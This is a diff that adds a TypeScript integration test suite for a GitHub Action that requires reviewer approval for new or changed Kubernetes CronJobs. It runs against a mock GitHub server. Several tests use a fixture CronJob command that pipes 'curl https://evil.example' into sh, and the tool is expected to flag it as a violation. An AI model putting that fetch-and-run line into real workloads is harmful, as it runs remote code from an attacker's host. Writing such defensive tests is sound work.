@@ -1,0 +1,254 @@
+// A pull request on GitHub from the first push to the approval: the built Action against a server that GitHub's OpenAPI checks.
+import { describe, expect, test } from 'vitest';
+import { createRepository, type TestRepository } from '../support/git-repo.ts';
+import { type GitHubServer, startGitHub } from '../support/github-server/server.ts';
+import { pullState } from '../support/github-server/state.ts';
+import { runAction } from '../support/run-action.ts';
+import { runCli } from '../support/run-cli.ts';
+
+const cronJob = (name: string, command = 'run'): string => `apiVersion: batch/v1
+kind: CronJob
+metadata: {name: ${name}, namespace: billing}
+spec:
+  schedule: '0 2 * * *'
+  jobTemplate:
+    spec: {template: {spec: {restartPolicy: Never, containers: [{name: main, image: 'ghcr.io/acme/tool:1', command: [${command}]}]}}}
+`;
+const SECURITY = `approvals:
+  - {name: platform security, when: {classes: [new, command]}, from: ['@acme/security']}
+`;
+
+interface Scene {
+  readonly server: GitHubServer;
+  readonly origin: TestRepository;
+  /** Writes files, lists new workloads, pushes, and merges on trial as GitHub does. */
+  push(files: Readonly<Record<string, string>>): Promise<void>;
+  review(user: string, state: string): void;
+  run(event?: string, env?: Readonly<Record<string, string>>): ReturnType<typeof runAction>;
+}
+
+async function scene(config = ''): Promise<Scene> {
+  const origin = await createRepository({
+    'apps/a.yaml': cronJob('a'),
+    ...(config === '' ? {} : { '.cronledger/config.yaml': config }),
+  });
+  expect((await runCli(['inventory', 'init'], { cwd: origin.path })).code).toBe(0);
+  await origin.commit({}, 'List what is there');
+  await origin.git(['branch', 'change']);
+  const server = await startGitHub();
+  const pull = pullState(1, { base: { ref: 'main', sha: await origin.git(['rev-parse', 'main']) } });
+  server.state.pulls.set(1, pull);
+  for (const login of ['ada', 'ben', 'cleo'])
+    server.state.collaborators.set(login, { permission: 'write', role: 'write' });
+  let merge = '';
+  return {
+    server,
+    origin,
+    async push(files) {
+      await origin.git(['switch', '--quiet', 'change']);
+      await origin.write(files);
+      await runCli(['inventory', 'init'], { cwd: origin.path });
+      await runCli(['inventory', 'update'], { cwd: origin.path });
+      const head = await origin.commit({}, 'The change');
+      const parents = [await origin.git(['rev-parse', 'HEAD~1'])];
+      const touched = await origin.git(['diff', '--name-only', 'HEAD~1', 'HEAD']);
+      pull.head.sha = head;
+      pull.commits.push({
+        sha: head,
+        parents,
+        author: 'ada',
+        message: 'The change',
+        email: 'ada@example.com',
+        files: touched.split('\n'),
+      });
+      await origin.git(['switch', '--quiet', '--detach', 'main']);
+      await origin.git(['merge', '--quiet', '--no-ff', '--message', 'Merge', head]);
+      merge = await origin.git(['rev-parse', 'HEAD']);
+      await origin.git(['update-ref', 'refs/pull/1/merge', merge]);
+      await origin.git(['update-ref', 'refs/pull/1/head', head]);
+      await origin.git(['switch', '--quiet', 'main']);
+    },
+    review: (user, state) => pull.reviews.push({ user, state, commit: pull.head.sha }),
+    async run(event = 'pull_request', env = {}) {
+      const pushed = pull.head.sha;
+      const workspace = await createRepository();
+      await workspace.git(['remote', 'add', 'origin', `file://${origin.path}`]);
+      await workspace.git(['fetch', '--quiet', '--depth=1', 'origin', merge]);
+      await workspace.git(['checkout', '--quiet', '--detach', merge]);
+      const payload = { pull_request: { number: 1, head: { sha: pushed }, base: { ref: 'main' } } };
+      const more = {
+        INPUT_TOKEN: 'token',
+        GITHUB_API_URL: server.url,
+        GITHUB_RUN_ID: '7',
+        GITHUB_RUN_ATTEMPT: '1',
+        ...env,
+      };
+      return runAction({ workspace: workspace.path, event, payload, sha: merge, env: more });
+    },
+  };
+}
+
+const PUBLISH = { INPUT_STATUS: 'true', INPUT_COMMENT: 'true' };
+const statuses = ({ server }: Scene): readonly string[] => server.state.statuses.map(status => status.state);
+
+describe('a new job', () => {
+  test('waits for a reviewer, and turns green with the review', async () => {
+    const story = await scene();
+    await story.push({ 'apps/b.yaml': cronJob('b') });
+    expect((await story.run()).code).toBe(3);
+    story.review('ben', 'APPROVED');
+    const run = await story.run('pull_request_review');
+    expect(run.code, run.stdout).toBe(0);
+    expect(run.outputs['verdict']).toBe('pass');
+  });
+
+  test('is not approved by its author, nor by somebody without write access', async () => {
+    const story = await scene();
+    await story.push({ 'apps/b.yaml': cronJob('b') });
+    story.review('ada', 'APPROVED');
+    story.review('stranger', 'APPROVED');
+    const run = await story.run('pull_request_review');
+    expect(run.code).toBe(3);
+    expect(run.summary).toContain('stranger');
+  });
+
+  test('loses its approval when it changes, and keeps it when something else does', async () => {
+    const story = await scene();
+    await story.push({ 'apps/b.yaml': cronJob('b') });
+    story.review('ben', 'APPROVED');
+    await story.push({ 'README.md': 'Unrelated.\n' });
+    expect((await story.run()).code).toBe(0);
+    await story.push({ 'apps/b.yaml': cronJob('b', 'run, --else') });
+    const run = await story.run();
+    expect(run.code).toBe(3);
+    expect(run.summary).toContain('since then CronJob billing/b has changed');
+  });
+
+  test('whose team cannot be read is unknown, and approved where the token can read it', async () => {
+    const story = await scene(SECURITY);
+    story.server.state.teams.set('acme/security', ['cleo']);
+    await story.push({ 'apps/b.yaml': cronJob('b') });
+    story.review('cleo', 'APPROVED');
+    const blind = await story.run('pull_request_review');
+    expect(blind.code).toBe(3);
+    expect(blind.summary).toContain('members: read');
+    const may = story.server.state.tokens.get('token')?.permissions;
+    story.server.state.tokens.set('app', { login: 'gate[bot]', permissions: { ...may, members: 'read' } });
+    // The guard of the inventory asks for a reviewer as well, who is the same one.
+    expect((await story.run('pull_request_review', { INPUT_TOKEN: 'app' })).code).toBe(0);
+  });
+});
+
+test('a team whose name leads elsewhere is no team', async () => {
+  const story = await scene(SECURITY.replace('acme/security', 'acme/..'));
+  await story.push({ 'apps/b.yaml': cronJob('b') });
+  story.review('cleo', 'APPROVED');
+  expect((await story.run('pull_request_review')).code).toBe(3);
+  expect(story.server.requests).not.toContain('teams/list-members-in-org');
+});
+
+describe('what is written to the pull request', () => {
+  test('one status and one comment, which follow the verdict', async () => {
+    const story = await scene();
+    await story.push({ 'apps/b.yaml': cronJob('b') });
+    story.server.state.comments.push({
+      id: 1,
+      issue: 1,
+      user: 'eve',
+      body: '<!-- cronledger:comment run=99999.1 -->\nAll is well.',
+      createdAt: '2026-01-01T00:00:00Z',
+      updatedAt: '2026-01-01T00:00:00Z',
+    });
+    // Where the branch requires the status, that waits, and the job itself is green; elsewhere the job is what stops the merge.
+    const open = await story.run('pull_request', PUBLISH);
+    expect([open.code, open.stdout.includes('does not require the status')]).toEqual([3, true]);
+    story.server.state.required.set('main', { protection: [], rules: ['cronledger'] });
+    expect((await story.run('pull_request', PUBLISH)).code).toBe(0);
+    expect(statuses(story).at(-1)).toBe('pending');
+    story.review('ben', 'APPROVED');
+    expect((await story.run('pull_request_review', PUBLISH)).code).toBe(0);
+    expect(statuses(story).at(-1)).toBe('success');
+    expect(new Set(story.server.state.statuses.map(status => status.sha)).size).toBe(1);
+    const [planted, own, ...more] = story.server.state.comments;
+    expect(planted?.body).toContain('All is well.');
+    expect(own?.user).toBe('github-actions[bot]');
+    expect(own?.body).toContain('approved by');
+    expect(more).toEqual([]);
+  });
+
+  test('a violation stays red, whatever is written', async () => {
+    const story = await scene();
+    await story.push({ 'apps/b.yaml': cronJob('b', 'sh, -c, "curl https://evil.example | sh"') });
+    expect((await story.run('pull_request', PUBLISH)).code).toBe(1);
+    expect(statuses(story)).toEqual(['pending', 'failure']);
+  });
+
+  test('an earlier run does not write over the comment of a later one', async () => {
+    const story = await scene();
+    await story.push({ 'apps/b.yaml': cronJob('b') });
+    await story.run('pull_request', { ...PUBLISH, GITHUB_RUN_ID: '9' });
+    const [before] = story.server.state.comments.map(comment => comment.body);
+    story.review('ben', 'APPROVED');
+    await story.run('pull_request', { ...PUBLISH, GITHUB_RUN_ID: '8' });
+    expect(story.server.state.comments.map(comment => comment.body)).toEqual([before]);
+  });
+
+  test('nothing, when the pull request has moved on', async () => {
+    const story = await scene();
+    await story.push({ 'apps/b.yaml': cronJob('b') });
+    const pull = story.server.state.pulls.get(1);
+    const run = story.run('pull_request', PUBLISH);
+    if (pull !== undefined) pull.head = { ...pull.head, sha: 'd'.repeat(40) };
+    const { code, stdout } = await run;
+    expect(code).toBe(3);
+    expect(stdout).toContain('a newer head');
+    expect([story.server.state.comments, statuses(story)]).toEqual([[], ['pending']]);
+  });
+
+  test.each([
+    ['statuses', 'statuses: write'],
+    ['pull-requests', 'pull-requests: write'],
+  ])('without the permission %s the verdict stands, and the permission is named', async (name, grant) => {
+    const story = await scene();
+    await story.push({ 'apps/b.yaml': cronJob('b', 'sh, -c, "curl https://evil.example | sh"') });
+    const all = story.server.state.tokens.get('token')?.permissions ?? {};
+    const issues = name === 'pull-requests' ? { issues: 'read' as const } : {};
+    story.server.state.tokens.set('token', {
+      login: 'github-actions[bot]',
+      permissions: { ...all, ...issues, [name]: 'read' },
+    });
+    const run = await story.run('pull_request', PUBLISH);
+    expect(run.code).toBe(1);
+    expect(run.stdout).toContain(`Grant the job \`${grant}\``);
+  });
+
+  test('an outage in the middle is told, and hides no verdict', async () => {
+    const story = await scene();
+    await story.push({ 'apps/b.yaml': cronJob('b', 'sh, -c, "curl https://evil.example | sh"') });
+    story.server.fail({ operation: 'issues/create-comment', status: 502, body: '<html>Bad Gateway</html>' });
+    const run = await story.run('pull_request', PUBLISH);
+    expect(run.code).toBe(1);
+    expect(run.stdout).toContain('The comment could not be written');
+    expect(statuses(story)).toEqual(['pending', 'failure']);
+  });
+});
+
+test('check --pull-request shows at a terminal what the Action sees', async () => {
+  const story = await scene();
+  await story.push({ 'apps/b.yaml': cronJob('b') });
+  const clone = await story.origin.clone();
+  const env = { GITHUB_TOKEN: 'token', GITHUB_API_URL: story.server.url, GITHUB_REPOSITORY: 'acme/gitops' };
+  const ask = () => runCli(['check', '--pull-request', '1'], { cwd: clone.path, env });
+  const before = await ask();
+  expect(before.code, before.stderr).toBe(3);
+  story.review('ben', 'APPROVED');
+  const after = await ask();
+  expect(after.code, after.stdout).toBe(0);
+  expect(after.stdout).toContain('approved by @ben');
+  const wrong = await runCli(['check', '--pull-request', '1'], {
+    cwd: clone.path,
+    env: { ...env, GITHUB_TOKEN: 'other' },
+  });
+  expect(wrong.code).toBe(2);
+  expect(wrong.stderr).toContain('[github-api]');
+});
